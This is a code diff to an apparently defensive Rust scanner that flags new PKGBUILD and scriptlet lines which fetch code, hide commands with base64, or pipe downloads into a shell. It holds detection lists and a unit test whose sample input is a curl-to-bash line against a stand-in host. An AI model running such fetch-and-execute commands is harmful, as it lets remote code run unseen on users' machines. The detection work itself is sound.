@@ -3,9 +3,8 @@
 //!
 //! Nothing is minor because nothing was found here; a finding only makes a reason heavier.
 
-use super::text::new_lines;
-use super::{PKGBUILD, Reason, Weight, bytes, reason};
-use crate::domain::folder::Folder;
+use super::text::Written;
+use super::{PKGBUILD, Reason, SRCINFO, Weight, reason};
 
 /// Commands that fetch something or install packages of a language.
 const FETCH: [&str; 24] = [
@@ -27,13 +26,14 @@ const HIDE: [&str; 10] = [
     "| base64",
 ];
 
+/// Where what was written before is handed to a shell.
+const PIPED: [&str; 4] = ["| sh", "| bash", "|sh", "|bash"];
+
 /// Reasons for new lines in PKGBUILD and scriptlets.
-pub(super) fn compare(old: &Folder, new: &Folder) -> Vec<Reason> {
-    let runs = |path: &str| path == PKGBUILD || matches!(path.rsplit_once('.'), Some((_, "install" | "hook")));
-    let changed = new.files.iter().filter(|(path, file)| runs(path) && old.get(path) != Some(&*file.bytes));
+pub(super) fn compare(written: &[Written<'_>]) -> Vec<Reason> {
     let mut reasons = Vec::new();
-    for (path, file) in changed {
-        for (number, line) in new_lines(bytes(old, path), &file.bytes) {
+    for &Written { path, ref lines } in written.iter().filter(|file| file.path != SRCINFO) {
+        for &(number, line) in lines {
             if line.len() > 1000 && !line.starts_with(b"#") {
                 let message = "a line is so long that nobody reads it to its end";
                 reasons.push(reason("long-line", Weight::Review, (path, Some(number)), None, None, message));
@@ -43,9 +43,13 @@ pub(super) fn compare(old: &Folder, new: &Folder) -> Vec<Reason> {
             if code.starts_with('#') {
                 continue;
             }
-            let place = (path.as_str(), Some(number));
+            let place = (path, Some(number));
             if is_hidden(code) {
-                let message = "a command is written in a way that hides what it runs";
+                let message = if fetches(code) && PIPED.iter().any(|sign| code.contains(sign)) {
+                    "what a command fetches is run unseen"
+                } else {
+                    "a command is written in a way that hides what it runs"
+                };
                 reasons.push(reason("obfuscation", Weight::Hostile, place, None, Some(code.as_bytes()), message));
             } else if path != PKGBUILD && fetches(code) {
                 let message = "a script that runs as root on every machine fetches something, or installs packages";
@@ -91,4 +95,21 @@ fn is_split(line: &str) -> bool {
         letter(at) && quote(at + 1) && quote(at + 2) && letter(at + 3) && (quote(at + 4) || (at > 0 && quote(at - 1)))
     };
     (0..bytes.len()).any(|at| spelled(at) || touching(at))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn said(line: &str) -> String {
+        let written = Written { path: PKGBUILD, lines: vec![(1, line.as_bytes())] };
+        compare(&[written]).into_iter().map(|reason| reason.message).collect()
+    }
+
+    #[test]
+    fn what_is_fetched_and_run_is_told_apart_from_what_is_hidden() {
+        assert_eq!(said("curl -s https://a.example/x | bash"), "what a command fetches is run unseen");
+        assert_eq!(said("echo eA== | base64 -d"), "a command is written in a way that hides what it runs");
+        assert_eq!(said("make"), "");
+    }
 }
